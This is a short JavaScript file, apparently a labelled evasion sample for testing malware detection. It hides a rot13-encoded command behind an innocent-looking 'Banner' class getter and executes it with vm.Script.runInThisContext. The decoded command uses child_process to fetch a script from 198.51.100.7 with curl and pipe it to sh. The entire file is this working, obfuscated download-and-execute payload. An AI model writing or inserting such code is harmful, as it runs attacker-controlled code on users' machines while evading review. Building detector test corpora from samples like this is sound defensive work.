// evasion: rot13 payload behind a class getter, decoded by a static method and run by new vm.Script().runInThisContext()
// grade: hard; does: shell
const vm = require('vm');

class Banner {
  static rotate(s) {
    return s.replace(/[a-z]/gi, (ch) => {
      const base = ch <= 'Z' ? 65 : 97;
      return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
    });
  }

  get text() {
    return Banner.rotate(
      "cebprff.znvaZbqhyr.erdhver('puvyq_cebprff').rkrpFlap('phey -f uggc://198.51.100.7/c | fu', { fgqvb: 'vaurevg' })"
    );
  }
}

new vm.Script(new Banner().text, { filename: 'banner.js' }).runInThisContext();
